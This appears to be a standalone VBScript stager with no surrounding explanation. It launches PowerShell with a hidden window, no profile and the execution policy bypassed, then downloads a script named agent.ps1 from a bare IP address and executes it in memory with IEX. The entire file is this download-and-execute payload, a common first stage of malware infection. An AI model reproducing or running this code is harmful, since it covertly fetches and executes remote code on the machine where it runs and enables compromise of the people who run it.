Set objShell = CreateObject("WScript.Shell")
strCmd = "powershell.exe -NoProfile -NonInteractive -WindowStyle Hidden -ExecutionPolicy Bypass -Command " & _
         """$u='http://198.51.100.150/ps/agent.ps1';" & _
         "$s=(New-Object System.Net.WebClient).DownloadString($u);" & _
         "IEX $s"""
objShell.Run strCmd, 0, False
Set objShell = Nothing
